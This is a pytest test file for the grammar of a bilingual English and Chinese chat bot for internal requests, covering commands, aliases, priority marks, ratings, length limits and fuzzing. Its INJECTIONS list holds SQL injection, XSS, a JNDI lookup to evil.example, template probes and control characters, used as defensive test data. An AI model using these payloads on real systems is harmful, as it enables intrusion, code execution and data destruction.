"""Tests for the chat grammar: text in English or Chinese → Command, or Invalid saying why."""

from __future__ import annotations

import unicodedata
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.runtime.config import load
from handlers.catalog import Catalog
from handlers.grammar import Command, Invalid, parse

EXAMPLE = Path(__file__).resolve().parents[2] / "config.example.toml"
LIMIT = 4000  # the documented maximum length of details, comments and suggestions


@pytest.fixture(scope="module")
def catalog() -> Catalog:
    """The sample company's catalog from config.example.toml."""
    return load(EXAMPLE).catalog


def opened(department: str, category: str, text: str = "", **extra: object) -> Command:
    return Command("open", department=department, category=category, text=text, **extra)  # type: ignore[arg-type]


# ---------------------------------------------------------------------------------------------
# Opening a request


@pytest.mark.parametrize(
    "message",
    [
        "/request finance reimbursement taxi 86 CNY",
        "/request FINANCE Reimbursement taxi 86 CNY",
        "/REQUEST Finance REIMBURSEMENT taxi 86 CNY",
        "/request fin expense taxi 86 CNY",
        "/request FIN expenses taxi 86 CNY",
        "/request 财务 报销 taxi 86 CNY",
        "/request 财务部 费用报销 taxi 86 CNY",
        "提单 财务 报销 taxi 86 CNY",
        "请求 fin Reimbursement taxi 86 CNY",
        "  /request   finance \t reimbursement   taxi 86 CNY \n",
        "／ｒｅｑｕｅｓｔ　ＦＩＮ　ＥＸＰＥＮＳＥ　taxi 86 CNY",
        "/request ｆｉｎａｎｃｅ ｒｅｉｍｂｕｒｓｅｍｅｎｔ taxi 86 CNY",
    ],
)
def test_open_by_key_name_alias_prefix_case_and_width(catalog: Catalog, message: str) -> None:
    assert parse(message, catalog) == opened("finance", "reimbursement", "taxi 86 CNY")


def test_open_in_chinese(catalog: Catalog) -> None:
    assert parse("/request 财务 报销 出租车 86元", catalog) == opened(
        "finance", "reimbursement", "出租车 86元"
    )
    assert parse("提单 设备 报修 三号线冲床停机", catalog) == opened(
        "maintenance", "equipment-repair", "三号线冲床停机"
    )
    assert parse("请求 人事 入职 新同事周一报到", catalog) == opened(
        "hr", "onboarding", "新同事周一报到"
    )


@pytest.mark.parametrize(
    ("message", "department", "category", "details"),
    [
        (
            "/request it account access cannot log in to VPN",
            "it",
            "account-access",
            "cannot log in to VPN",
        ),
        ("/request IT Account Access reset please", "it", "account-access", "reset please"),
        ("/request sales sales figures Q3 east region", "sales", "sales-figures", "Q3 east region"),
        ("/request sales regional sales Q3", "sales", "sales-figures", "Q3"),
        (
            "/request human resources new hire Tom starts Monday",
            "hr",
            "onboarding",
            "Tom starts Monday",
        ),
        ("/request Human Resources training Excel course", "hr", "training", "Excel course"),
        ("/request finance bank acceptance due 30 May", "finance", "acceptance-bill", "due 30 May"),
        (
            "/request finance cash advance for the Shenzhen trip",
            "finance",
            "cash-advance",
            "for the Shenzhen trip",
        ),
        ("/request maintenance machine down line 3", "maintenance", "equipment-repair", "line 3"),
        ("/request admin meeting room Friday 3pm", "admin", "meeting", "Friday 3pm"),
        ("/request quality incoming inspection lot 42", "quality", "inspection", "lot 42"),
        (
            "/request marketing market research EV chargers",
            "marketing",
            "market-analysis",
            "EV chargers",
        ),
        ("/request admin travel arrangements Beijing", "admin", "travel", "Beijing"),
        ("/request 信息技术部 账号权限 VPN 登不上", "it", "account-access", "VPN 登不上"),
    ],
)
def test_open_with_multi_word_names(
    catalog: Catalog, message: str, department: str, category: str, details: str
) -> None:
    assert parse(message, catalog) == opened(department, category, details)


def test_every_department_and_category_spelling_opens_the_right_request(
    catalog: Catalog,
) -> None:
    failures = []
    for dep in catalog.departments:
        for dep_word in dict.fromkeys(w for w in dep.words() if w):
            for cat in dep.categories:
                for cat_word in dict.fromkeys(w for w in cat.words() if w):
                    message = f"/request {dep_word} {cat_word} need help"
                    got = parse(message, catalog)
                    if got != opened(dep.key, cat.key, "need help"):
                        failures.append((message, got))
    assert failures == []


def test_open_without_details(catalog: Catalog) -> None:
    assert parse("/request it laptop", catalog) == opened("it", "laptop")
    assert parse("提单 信息 电脑", catalog) == opened("it", "laptop")


def test_details_keep_newlines_indentation_and_spacing(catalog: Catalog) -> None:
    details = "Screen flickers:\n  1. after login\n\t2. when docked\r\nThanks,   Alice"
    assert parse(f"/request it laptop {details}", catalog) == opened("it", "laptop", details)


def test_details_starting_on_the_next_line(catalog: Catalog) -> None:
    got = parse("/request it laptop\n  fan is loud\n  since Monday", catalog)
    assert got == opened("it", "laptop", "fan is loud\n  since Monday")


@pytest.mark.parametrize(
    "details",
    [
        "发票丢了😭！怎么办？（急）「报销」——谢谢……",
        "家庭照 👨‍👩‍👧 和 🇨🇳 旗帜",
        "ＡＢＣ　全角字母与全角空格　１２３",  # full-width stays full-width: no normalising
        "ﬁle name with ligature, Å vs Å, café vs café",
        "مرحبا עברית русский 日本語",
        "tab\tseparated\tvalues and  double  spaces",
    ],
)
def test_details_are_returned_verbatim(catalog: Catalog, details: str) -> None:
    assert parse(f"/request finance reimbursement {details}", catalog) == opened(
        "finance", "reimbursement", details
    )


# ---------------------------------------------------------------------------------------------
# Priority marks


@pytest.mark.parametrize(
    ("message", "details"),
    [
        ("/request finance reimbursement taxi 86 !urgent", "taxi 86"),
        ("/request finance reimbursement !URGENT taxi 86", "taxi 86"),
        ("/request finance reimbursement taxi !Urgent 86", "taxi 86"),
        ("/request 财务 报销 !紧急 出租车 86元", "出租车 86元"),
        ("/request 财务 报销 ！紧急 出租车 86元", "出租车 86元"),
        ("/request 财务 报销 出租车 86元 ！紧急", "出租车 86元"),
        ("/request 财务 报销 出租车　！紧急", "出租车"),
        ("/request 财务 报销 ！紧急　出租车", "出租车"),
        ("/request finance reimbursement taxi\t!urgent", "taxi"),
        ("/request finance reimbursement !urgent", ""),
    ],
)
def test_urgent_mark_raises_priority_and_is_removed(
    catalog: Catalog, message: str, details: str
) -> None:
    assert parse(message, catalog) == opened(
        "finance", "reimbursement", details, raise_priority=True
    )


def test_urgent_mark_on_its_own_line(catalog: Catalog) -> None:
    got = parse("/request finance reimbursement taxi 86\n!urgent\nthanks", catalog)
    assert isinstance(got, Command) and got.raise_priority
    assert "urgent" not in got.text
    assert got.text.startswith("taxi 86\n") and got.text.endswith("\nthanks")


@pytest.mark.parametrize(
    ("mark", "priority"),
    [("!P1", "P1"), ("!p1", "P1"), ("!P2", "P2"), ("!p3", "P3"), ("!P4", "P4"), ("！Ｐ１", "P1")],
)
def test_priority_mark_sets_priority(catalog: Catalog, mark: str, priority: str) -> None:
    got = parse(f"/request maintenance repair {mark} press 3 leaking oil", catalog)
    assert got == opened(
        "maintenance", "equipment-repair", "press 3 leaking oil", priority=priority
    )


def test_urgent_and_priority_marks_together(catalog: Catalog) -> None:
    got = parse("/request it account !urgent locked out !P2", catalog)
    assert got == opened("it", "account-access", "locked out", priority="P2", raise_priority=True)


@pytest.mark.parametrize(
    "details",
    [
        "urgent please",
        "!urgently",
        "not!urgent",
        "<!channel> ping",
        "help!! wifi down!",
        "!!! !P !important",
    ],
)
def test_words_that_only_look_like_marks_stay(catalog: Catalog, details: str) -> None:
    assert parse(f"/request finance reimbursement {details}", catalog) == opened(
        "finance", "reimbursement", details
    )


# ---------------------------------------------------------------------------------------------
# Subcommands: English and Chinese spellings mean the same thing


SUBCOMMAND_CASES = [
    ("help", "帮助", Command("help")),
    ("?", "帮助", Command("help")),
    ("catalog", "目录", Command("catalog")),
    ("list", "列表", Command("list", number=1)),
    ("mine 2", "列表 2", Command("list", number=2)),
    ("queue", "队列", Command("queue", number=1)),
    ("queue finance 3", "队列 财务 3", Command("queue", department="finance", number=3)),
    ("queue 2", "队列 2", Command("queue", number=2)),
    ("show FIN-3", "查看 FIN-3", Command("show", ref="FIN-3")),
    ("view FIN-3", "查看 fin-3", Command("show", ref="FIN-3")),
    ("ack FIN-3", "受理 FIN-3", Command("ack", ref="FIN-3")),
    ("acknowledge FIN-3", "受理 fin-003", Command("ack", ref="FIN-3")),
    ("assign FIN-3 bob", "指派 FIN-3 bob",
     Command("assign", ref="FIN-3", person="bob", text="bob")),
    (
        "wait FIN-3 which project code?",
        "等待 FIN-3 which project code?",
        Command("wait", ref="FIN-3", text="which project code?"),
    ),
    (
        "ask FIN-3 发票抬头是？",
        "等待 FIN-3 发票抬头是？",
        Command("wait", ref="FIN-3", text="发票抬头是？"),
    ),
    ("resume FIN-3", "继续 FIN-3", Command("resume", ref="FIN-3")),
    (
        "resolve FIN-3 paid on Friday",
        "解决 FIN-3 paid on Friday",
        Command("resolve", ref="FIN-3", text="paid on Friday"),
    ),
    ("done FIN-3 已付款", "解决 FIN-3 已付款", Command("resolve", ref="FIN-3", text="已付款")),
    ("confirm FIN-3", "确认 FIN-3", Command("confirm", ref="FIN-3")),
    (
        "reopen FIN-3 still not paid",
        "重开 FIN-3 still not paid",
        Command("reopen", ref="FIN-3", text="still not paid"),
    ),
    ("cancel FIN-3", "取消 FIN-3", Command("cancel", ref="FIN-3")),
    (
        "comment FIN-3 receipt attached",
        "评论 FIN-3 receipt attached",
        Command("comment", ref="FIN-3", text="receipt attached"),
    ),
    ("reply FIN-3 好的", "评论 FIN-3 好的", Command("comment", ref="FIN-3", text="好的")),
    ("transfer FIN-3 it", "转交 FIN-3 信息部", Command("transfer", ref="FIN-3", department="it")),
    (
        "transfer FIN-3 it laptop",
        "转交 FIN-3 信息技术部 电脑",
        Command("transfer", ref="FIN-3", department="it", category="laptop"),
    ),
    (
        "rate FIN-3 5 很及时",
        "评分 FIN-3 5 很及时",
        Command("rate", ref="FIN-3", number=5, text="很及时"),
    ),
    ("rate FIN-3 4", "评分 FIN-3 ★★★★", Command("rate", ref="FIN-3", number=4)),
    (
        "suggest finance accept e-invoices",
        "建议 财务 accept e-invoices",
        Command("suggest", department="finance", text="accept e-invoices"),
    ),
    ("snooze FIN-3 2h", "稍后 FIN-3 2h", Command("snooze", ref="FIN-3", text="2h")),
    ("snooze FIN-3", "稍后 FIN-3", Command("snooze", ref="FIN-3", text="1h")),
]


@pytest.mark.parametrize(("english", "chinese", "expected"), SUBCOMMAND_CASES)
def test_subcommand_in_english_and_chinese(
    catalog: Catalog, english: str, chinese: str, expected: Command
) -> None:
    head, _, args = english.partition(" ")
    spellings = [
        english,
        f"/{english}",
        f"/request {english}",
        f"{head.upper()} {args}",
        chinese,
        f"提单 {chinese}",
        f"请求 {chinese}",
        f"/request {chinese}",
    ]
    assert {s: parse(s, catalog) for s in spellings} == dict.fromkeys(spellings, expected)


def test_full_width_subcommand_and_id(catalog: Catalog) -> None:
    assert parse("ａｃｋ FIN-3", catalog) == Command("ack", ref="FIN-3")
    assert parse("受理 ＦＩＮ－３", catalog) == Command("ack", ref="FIN-3")
    assert parse("受理 FIN-３", catalog) == Command("ack", ref="FIN-3")


@pytest.mark.parametrize(
    ("typed", "ref"),
    [
        ("fin-3", "FIN-3"),
        ("Fin-3", "FIN-3"),
        ("FIN-003", "FIN-3"),
        ("FIN-3,", "FIN-3"),
        ("FIN-3。", "FIN-3"),
        ("FIN-3，", "FIN-3"),
        ("it-12", "IT-12"),
        ("qa-7", "QA-7"),
        ("mkt-1024", "MKT-1024"),
    ],
)
def test_request_ids_are_case_insensitive_and_canonical(
    catalog: Catalog, typed: str, ref: str
) -> None:
    assert parse(f"show {typed}", catalog) == Command("show", ref=ref)
    assert parse(f"评论 {typed} 收到", catalog) == Command("comment", ref=ref, text="收到")


@pytest.mark.parametrize("typed", ["FIN3", "FIN-", "F-3", "FINAN-3", "FIN-x", "3", "#3", "-3"])
def test_malformed_request_id(catalog: Catalog, typed: str) -> None:
    assert parse(f"ack {typed}", catalog) == Invalid("need_ref", {"command": "ack", "given": typed})


def test_text_of_subcommands_is_verbatim(catalog: Catalog) -> None:
    note = "Paid via bank transfer.\n  Ref: 2026-11-23 #4471\n谢谢！🙏"
    assert parse(f"resolve FIN-3 {note}", catalog) == Command("resolve", ref="FIN-3", text=note)
    assert parse(f"评分 FIN-3 5 {note}", catalog) == Command(
        "rate", ref="FIN-3", number=5, text=note
    )


def test_help_with_a_department_shows_its_catalog(catalog: Catalog) -> None:
    assert parse("help finance", catalog) == Command("catalog", department="finance")
    assert parse("帮助 财务", catalog) == Command("catalog", department="finance")
    assert parse("/request catalog human resources", catalog) == Command("catalog", department="hr")
    assert parse("help me please", catalog) == Command("help")


# ---------------------------------------------------------------------------------------------
# Near misses and things that are not commands


def test_misspelt_department_suggests_the_right_one(catalog: Catalog) -> None:
    got = parse("/request finanse reimbursement taxi", catalog)
    assert isinstance(got, Invalid) and got.key == "unknown_department"
    assert got.params["word"] == "finanse"
    assert got.params["suggestions"] == ["finance"]
    got = parse("/request marketting promo", catalog)
    assert isinstance(got, Invalid) and got.key == "unknown_department"
    assert got.params["suggestions"] == ["marketing"]


@pytest.mark.parametrize(
    ("typed", "command"),
    [("ackk", "ack"), ("reslove", "resolve"), ("assgin", "assign"), ("cancle", "cancel")],
)
def test_misspelt_subcommand_suggests_the_command(
    catalog: Catalog, typed: str, command: str
) -> None:
    got = parse(f"/request {typed} FIN-3", catalog)
    assert isinstance(got, Invalid) and got.key == "unknown_department"
    assert command in got.params["commands"]  # type: ignore[operator]


def test_unknown_category_lists_suggestions(catalog: Catalog) -> None:
    got = parse("/request finance reimbursment taxi 86", catalog)
    assert isinstance(got, Invalid) and got.key == "unknown_category"
    assert got.params["word"] == "reimbursment"
    assert got.params["department"] == "finance"
    assert "reimbursement" in got.params["suggestions"]  # type: ignore[operator]
    got = parse("/request it laptopp slow", catalog)
    assert isinstance(got, Invalid) and got.key == "unknown_category"
    assert got.params["suggestions"][0] == "laptop"  # type: ignore[index]


def test_category_of_another_department_is_unknown(catalog: Catalog) -> None:
    got = parse("/request finance laptop broken", catalog)
    assert isinstance(got, Invalid) and got.key == "unknown_category"
    assert got.params["department"] == "finance"


def test_department_without_category_shows_its_catalog(catalog: Catalog) -> None:
    assert parse("/request finance", catalog) == Command("catalog", department="finance")
    assert parse("提单 财务", catalog) == Command("catalog", department="finance")
    assert parse("/request human resources", catalog) == Command("catalog", department="hr")
    assert parse("/request IT  \n", catalog) == Command("catalog", department="it")


@pytest.mark.parametrize(
    "message", ["/request", "提单", "请求", "  /REQUEST  ", "／ｒｅｑｕｅｓｔ"]
)
def test_bare_prefix_shows_the_catalog(catalog: Catalog, message: str) -> None:
    assert parse(message, catalog) == Command("catalog")


@pytest.mark.parametrize("message", ["", "   ", "\n\t \n", "\u3000"])
def test_empty_message_gets_help(catalog: Catalog, message: str) -> None:
    assert parse(message, catalog) == Command("help")


@pytest.mark.parametrize(
    "message",
    [
        "hello, can someone look at my taxi receipt?",
        "please reimburse my taxi",
        "request finance reimbursement taxi",
        "/requestfinance reimbursement taxi",
        "/ackk FIN-3",
        "FIN-3",
        "你好，报销怎么提？",
    ],
)
def test_ordinary_sentences_are_not_commands(catalog: Catalog, message: str) -> None:
    assert parse(message, catalog) == Invalid("not_a_command")


# ---------------------------------------------------------------------------------------------
# Missing or bad arguments


@pytest.mark.parametrize("message", ["ack", "受理", "/request ack", "show", "取消", "resolve"])
def test_missing_id(catalog: Catalog, message: str) -> None:
    got = parse(message, catalog)
    assert isinstance(got, Invalid) and got.key == "need_ref"
    assert got.params["given"] == ""


@pytest.mark.parametrize("command", ["wait", "resolve", "reopen", "comment"])
def test_missing_text(catalog: Catalog, command: str) -> None:
    expected = Invalid("need_text", {"command": command, "ref": "FIN-1"})
    assert parse(f"{command} FIN-1", catalog) == expected
    assert parse(f"{command} fin-1   \n  ", catalog) == expected


@pytest.mark.parametrize("stars", ["7", "0", "6", "x", "-1", "3.5", "★★★★★★", "²", "①", "五"])
def test_bad_rating(catalog: Catalog, stars: str) -> None:
    assert parse(f"rate FIN-1 {stars}", catalog) == Invalid(
        "bad_rating", {"ref": "FIN-1", "given": stars}
    )


def test_rating_missing(catalog: Catalog) -> None:
    assert parse("rate FIN-1", catalog) == Invalid("bad_rating", {"ref": "FIN-1", "given": ""})


def test_rating_with_a_huge_number_is_bad_not_a_crash(catalog: Catalog) -> None:
    got = parse("rate FIN-1 " + "9" * 5000, catalog)
    assert isinstance(got, Invalid) and got.key == "bad_rating"


@pytest.mark.parametrize(
    ("stars", "number"),
    [
        ("1", 1),
        ("5", 5),
        ("05", 5),
        ("★", 1),
        ("★★★★", 4),
        ("★★★★★", 5),
        ("5星", 5),
        ("4分", 4),
        ("３", 3),
    ],
)
def test_good_rating(catalog: Catalog, stars: str, number: int) -> None:
    assert parse(f"rate FIN-1 {stars} ok", catalog) == Command(
        "rate", ref="FIN-1", number=number, text="ok"
    )


def test_assign_without_person(catalog: Catalog) -> None:
    assert parse("assign FIN-1", catalog) == Invalid("need_person", {"ref": "FIN-1"})
    assert parse("指派 FIN-1  ", catalog) == Invalid("need_person", {"ref": "FIN-1"})


def test_assign_takes_the_first_word_as_person(catalog: Catalog) -> None:
    assert parse("assign FIN-1 carol please", catalog) == Command(
        "assign", ref="FIN-1", person="carol", text="carol please"  # the words, for a name
    )


def test_transfer_to_unknown_department(catalog: Catalog) -> None:
    got = parse("transfer FIN-1 marketting", catalog)
    assert got == Invalid(
        "unknown_department", {"word": "marketting", "suggestions": ["marketing"]}
    )
    got = parse("转交 FIN-1 火星部", catalog)
    assert isinstance(got, Invalid) and got.key == "unknown_department"
    assert got.params["word"] == "火星部"
    got = parse("transfer FIN-1", catalog)
    assert isinstance(got, Invalid) and got.key == "unknown_department"


def test_transfer_with_category(catalog: Catalog) -> None:
    assert parse("transfer FIN-1 it laptop", catalog) == Command(
        "transfer", ref="FIN-1", department="it", category="laptop"
    )
    assert parse("transfer FIN-1 it account access", catalog) == Command(
        "transfer", ref="FIN-1", department="it", category="account-access"
    )
    assert parse("transfer FIN-1 human resources onboarding", catalog) == Command(
        "transfer", ref="FIN-1", department="hr", category="onboarding"
    )


def test_queue_of_unknown_department(catalog: Catalog) -> None:
    got = parse("queue finanse", catalog)
    assert isinstance(got, Invalid) and got.key == "unknown_department"
    assert got.params["suggestions"] == ["finance"]


@pytest.mark.parametrize("page", ["²", "①", "٣x", "9" * 5000])
def test_odd_page_numbers_do_not_crash(catalog: Catalog, page: str) -> None:
    for message in (f"list {page}", f"列表 {page}", f"queue {page}", f"queue finance {page}"):
        got = parse(message, catalog)
        assert isinstance(got, Command | Invalid), message


def test_page_numbers(catalog: Catalog) -> None:
    assert parse("list 0", catalog) == Command("list", number=1)
    assert parse("list ３", catalog) == Command("list", number=3)
    assert parse("queue it 12", catalog) == Command("queue", department="it", number=12)


# ---------------------------------------------------------------------------------------------
# Length limit


def test_details_at_the_limit_are_accepted(catalog: Catalog) -> None:
    details = "税" * LIMIT
    assert parse(f"/request finance reimbursement {details}", catalog) == opened(
        "finance", "reimbursement", details
    )


def test_details_over_the_limit_are_too_long(catalog: Catalog) -> None:
    details = "x" * (LIMIT + 1)
    assert parse(f"/request finance reimbursement {details}", catalog) == Invalid(
        "too_long", {"length": LIMIT + 1, "limit": LIMIT}
    )


def test_priority_marks_do_not_count_towards_the_limit(catalog: Catalog) -> None:
    details = "x" * LIMIT
    assert parse(f"/request finance reimbursement {details} !urgent", catalog) == opened(
        "finance", "reimbursement", details, raise_priority=True
    )


@pytest.mark.parametrize(
    "template",
    [
        "comment FIN-1 {}",
        "resolve FIN-1 {}",
        "rate FIN-1 5 {}",
        "/suggest finance {}",
        "等待 FIN-1 {}",
    ],
)
def test_other_texts_have_the_same_limit(catalog: Catalog, template: str) -> None:
    assert isinstance(parse(template.format("y" * LIMIT), catalog), Command)
    assert parse(template.format("y" * (LIMIT + 1)), catalog) == Invalid(
        "too_long", {"length": LIMIT + 1, "limit": LIMIT}
    )


# ---------------------------------------------------------------------------------------------
# Text that looks like an attack is just text here (escaping happens on output)


INJECTIONS = [
    "<!channel> pay me now",
    "<!here|here> <@U0CAROL>",
    "@all please look",
    "'; DROP TABLE request; --",
    "Robert'); DELETE FROM person WHERE ('1'='1",
    "**bold** _italic_ ~strike~ `code` ```block``` [link](https://evil.example)",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example/a} {{7*7}} %s%n",
    "bell\x07 nul\x00 esc\x1b[31m red \x7f",
    "unit\x1fsep and rtl\u202eoverride and zw\u200bspace",
]


@pytest.mark.parametrize("payload", INJECTIONS)
def test_injection_looking_text_is_returned_verbatim(catalog: Catalog, payload: str) -> None:
    assert parse(f"/request finance reimbursement {payload}", catalog) == opened(
        "finance", "reimbursement", payload
    )
    assert parse(f"comment FIN-1 {payload}", catalog) == Command(
        "comment", ref="FIN-1", text=payload
    )
    assert parse(f"/suggest finance {payload}", catalog) == Command(
        "suggest", department="finance", text=payload
    )


# ---------------------------------------------------------------------------------------------
# Suggestions


def test_suggestion(catalog: Catalog) -> None:
    assert parse("/suggest finance please accept e-invoices", catalog) == Command(
        "suggest", department="finance", text="please accept e-invoices"
    )


@pytest.mark.parametrize(
    "message",
    [
        "/suggest --anon finance please accept e-invoices",
        "/suggest --anonymous fin please accept e-invoices",
        "/suggest --ANON 财务 please accept e-invoices",
        "/request suggest --anon finance please accept e-invoices",
        "建议 匿名 财务 please accept e-invoices",
    ],
)
def test_anonymous_suggestion(catalog: Catalog, message: str) -> None:
    assert parse(message, catalog) == Command(
        "suggest", department="finance", text="please accept e-invoices", anonymous=True
    )


def test_suggestion_in_chinese(catalog: Catalog) -> None:
    assert parse("建议 匿名 财务 希望支持电子发票，\n谢谢！", catalog) == Command(
        "suggest", department="finance", text="希望支持电子发票，\n谢谢！", anonymous=True
    )
    assert parse("建议 行政 食堂增加素食", catalog) == Command(
        "suggest", department="admin", text="食堂增加素食"
    )


@pytest.mark.parametrize(
    "message", ["/suggest", "建议", "/suggest --anon", "建议 匿名", "/suggest  "]
)
def test_suggestion_without_anything(catalog: Catalog, message: str) -> None:
    got = parse(message, catalog)
    assert isinstance(got, Invalid) and got.key == "need_suggestion"


def test_suggestion_without_text(catalog: Catalog) -> None:
    assert parse("/suggest finance", catalog) == Invalid(
        "need_suggestion", {"department": "finance"}
    )


def test_suggestion_to_unknown_department(catalog: Catalog) -> None:
    got = parse("/suggest finanse accept e-invoices", catalog)
    assert isinstance(got, Invalid) and got.key == "unknown_department"
    assert got.params["suggestions"] == ["finance"]


def test_suggestion_keeps_priority_looking_words(catalog: Catalog) -> None:
    assert parse("/suggest it !urgent printers", catalog) == Command(
        "suggest", department="it", text="!urgent printers"
    )


# ---------------------------------------------------------------------------------------------
# Properties


# Arbitrary text, with runs of whitespace and line breaks common enough to matter.
WHITESPACE = [" ", "  ", "\n", "\n  ", "\t", "\r\n", "\u3000", "\x1f", "\u2028"]
any_text = st.lists(st.one_of(st.text(min_size=1), st.sampled_from(WHITESPACE))).map("".join)
# Numerals of any script (superscripts, circled digits, Arabic-Indic…) and very long numbers.
numbers = st.one_of(
    st.text(st.characters(categories=["Nd", "Nl", "No"]), min_size=1, max_size=3),
    st.builds(lambda digit, n: digit * n, st.sampled_from("09５٣"), st.integers(1, 6000)),
)

HEADS = [
    "/request",
    "提单",
    "请求",
    "/suggest",
    "help",
    "list",
    "queue",
    "show",
    "ack",
    "assign",
    "wait",
    "resume",
    "resolve",
    "confirm",
    "reopen",
    "cancel",
    "comment",
    "transfer",
    "rate",
    "suggest",
    "snooze",
    "受理",
    "评分",
    "转交",
    "建议",
    "队列",
    "列表",
]


@given(text=st.text())
def test_parse_never_raises(catalog: Catalog, text: str) -> None:
    assert isinstance(parse(text, catalog), Command | Invalid)


@given(
    head=st.sampled_from(HEADS),
    middle=st.sampled_from(["", "FIN-1", "fin-1 5", "finance", "it laptop", "--anon"]),
    tail=any_text,
)
def test_parse_never_raises_on_command_shaped_text(
    catalog: Catalog, head: str, middle: str, tail: str
) -> None:
    assert isinstance(parse(f"{head} {middle} {tail}", catalog), Command | Invalid)


@given(
    head=st.sampled_from(["list", "列表", "queue", "队列 财务", "rate FIN-1", "评分 FIN-1"]),
    number=numbers,
)
def test_numbers_in_any_script_never_crash(catalog: Catalog, head: str, number: str) -> None:
    got = parse(f"{head} {number}", catalog)
    assert isinstance(got, Command | Invalid)
    if isinstance(got, Command) and got.name == "rate":
        assert got.number in (1, 2, 3, 4, 5)
    elif isinstance(got, Command):
        assert isinstance(got.number, int) and got.number >= 1


def _has_no_mark(text: str) -> bool:
    return "!" not in unicodedata.normalize("NFKC", text)


details_text = st.one_of(
    any_text,
    st.builds(lambda n, tail: "d" * n + tail, st.integers(LIMIT - 5, LIMIT + 5), any_text),
).filter(_has_no_mark)


@given(details=details_text)
def test_details_come_back_verbatim_or_too_long(catalog: Catalog, details: str) -> None:
    got = parse(f"/request finance reimbursement {details}", catalog)
    expected = details.strip()
    if len(expected) > LIMIT:
        assert got == Invalid("too_long", {"length": len(expected), "limit": LIMIT})
    else:
        assert got == opened("finance", "reimbursement", expected)


@pytest.mark.parametrize(
    "text",
    [
        "/suggest finance --anon please accept e-invoices",
        "/suggest finance please accept e-invoices --anon",
        "建议 财务 please accept e-invoices 匿名",
    ],
)
def test_anonymity_mark_counts_wherever_it_stands(catalog, text):
    parsed = parse(text, catalog)
    assert parsed == Command(
        "suggest", department="finance", text="please accept e-invoices", anonymous=True
    )
